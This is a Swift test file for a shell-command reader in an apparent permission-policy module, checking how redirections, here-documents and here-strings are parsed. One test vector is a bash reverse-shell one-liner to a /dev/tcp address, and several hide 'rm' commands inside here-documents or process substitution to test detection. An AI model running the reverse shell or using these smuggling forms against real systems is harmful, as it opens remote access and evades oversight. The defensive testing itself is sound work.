import Testing

@testable import Policy

struct RedirectionTests {
    static let files = [
        ReadingVector("a > x >> y < z <> w", "a >x >>y <z <>w <-z", "a >x >>y <z <>w <-w"),
        ReadingVector("a >x 2>y 2>>z >|w", "a >x >y >>z >w"),
        ReadingVector("> x", " >x"),
        ReadingVector("< x a", "a <x <-x"),
        ReadingVector("a 2>&1 >&2 1>&- 2>&3- <&-", "a |<"),
        ReadingVector("a &> x; b &>> y; c >& z", "a >x", "b >y", "c >z"),
        ReadingVector("a {fd}> x {fd}>&-", "a >x"),
        ReadingVector("a 3< x; b 0< y; c 10> z", "a <x", "b <y <-y", "c >z", "c|10 >z"),
        ReadingVector("a >$x >\"$y\" >~/z", "a >‹$x› >«$y» >~/z"),
        ReadingVector("a > b c > d e", "a|c|e >b >d"),
        ReadingVector("a 2 > b a2> c", "a|2|a2 >b >c"),
        ReadingVector("{ a; b; } > x", " >x", "a", "b"),
        ReadingVector("(a; b) < x", " <x <-x", "a <-x", "b <-x"),
        ReadingVector("while read l; do a; done < x", " <x <-x", "read|l <-x", "a <-x"),
        ReadingVector("if a; then b; fi > x 2> y", " >x >y", "a", "b"),
        ReadingVector("[[ a ]] > x", " >x"),
        ReadingVector("a >!x", "a >!x", "a >x"),
        ReadingVector("a >! x", "a|x >!", "a >x"),
        ReadingVector("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "bash|-i >/dev/tcp/1.2.3.4/80 |<"),
        ReadingVector("a 2>&-b", "a|b"),
        ReadingVector("a > >(b)", "a", "b |<a"),
        ReadingVector("a < <(b; c)", "a |<b,c", "b |>a", "c |>a"),
        ReadingVector("sh < <(echo rm x)", "sh <<rm x\\n", "echo|rm|x |>sh"),
    ]

    @Test(arguments: files)
    func `files that are opened are redirections, descriptors are not`(vector: ReadingVector) {
        let reading = ShellReader.read(vector.text)
        for command in vector.commands { #expect(reading.dump.contains(command), "\(reading.dump)") }
        #expect(reading.dump.first == vector.commands.first)
        #expect(Set(reading.kinds) == vector.doubts)
    }

    static let documents = [
        ReadingVector("a <<E\nb $x `c`\nE\nd", "a <<b «$x» «`c`»\\n", "c", "d"),
        ReadingVector("a <<'E'\nb $x `c`\nE\nd", "a <<b $x `c`\\n", "d"),
        ReadingVector("a <<\\E\n$(b)\nE", "a <<$(b)\\n"),
        ReadingVector("a <<\"E F\"\n$(b)\nE F", "a <<$(b)\\n"),
        ReadingVector("a <<-E\n\tb\n\t\tE\nc", "a <<b\\n", "c"),
        ReadingVector("a <<- E\n\tb\n E\n\tE", "a <<b\\n E\\n"),
        ReadingVector("a <<E; b\nc\nE\nd", "a <<c\\n", "b", "d"),
        ReadingVector("a <<E | b && c\nd\nE", "a <<d\\n |>b", "b |<a", "c"),
        ReadingVector("cat <<A; cat <<B\n1\nA\n2\nB\nc", "cat <<1\\n", "cat <<2\\n", "c"),
        ReadingVector("a 3<<E\nb $(c)\nE\nd", "a", "c", "d"),
        ReadingVector("a <<E\nb\\\nc \\$x \\\\ \\y \"z\"\nE", "a <<bc $x \\ \\y \"z\"\\n"),
        ReadingVector("a <<E\nb", "a <<b"),
        ReadingVector("a <<E", "a <<∅"),
        ReadingVector("a <<''\nb\n\nc", "a <<b\\n", "c"),
        ReadingVector("a <<E\n${x:-$(b)} $((1+$(c)))\nE", "a <<«${x:-$(b)}» «$((1+$(c)))»\\n", "b", "c"),
        ReadingVector("x=$(a <<E\nb\nE\n)", "{x=‹$(a <<E\nb\nE\n)›}", "a <<b\\n"),
        ReadingVector("f() { a <<E\nb\nE\n}\nc", "a <<b\\n", "c"),
        ReadingVector("if a; then b <<E; fi\nc\nE\nd", "a", "b <<c\\n", "d"),
        ReadingVector("{ a; } <<E\nb\nE", "a <<b\\n"),
        ReadingVector("a <<E\n'\nE\nrm x #'", "a <<'\\n", "rm|x"),
    ]

    @Test(arguments: documents)
    func `a here-document's body is data`(vector: ReadingVector) { vector.check() }

    static let strings = [
        ReadingVector("sh <<< 'rm x'", "sh <<rm x\\n"),
        ReadingVector("sh <<< \"rm $x\"", "sh <<rm «$x»\\n"),
        ReadingVector("sh <<<$x", "sh <<‹$x›\\n"),
        ReadingVector("sh <<< 'a' <<< 'b'", "sh <<a\\n", "sh <<b\\n"),
        ReadingVector("sh 3<<< a", "sh"),
    ]

    @Test(arguments: strings)
    func `a here-string is input in view`(vector: ReadingVector) { vector.check() }

    @Test func `where shells see different ends of a here-document, both readings count`() {
        #expect(ShellReader.read("echo $(cat <<E)\nrm x\nE").dump.contains("rm|x"))
        #expect(ShellReader.read("echo $(cat <<E\na\nE)\nrm x").dump.contains("rm|x"))
        #expect(ShellReader.read("cat <<E\na\nE\\\n\nrm x\nE").dump.contains("rm|x"))
        #expect(ShellReader.read("cat <<E\nE\\\nE\nrm x").dump.contains("rm|x"))
        #expect(ShellReader.read("cat <<'E\nF'\na\nE\nF\nrm x").kinds.contains(.dialect))
    }
}
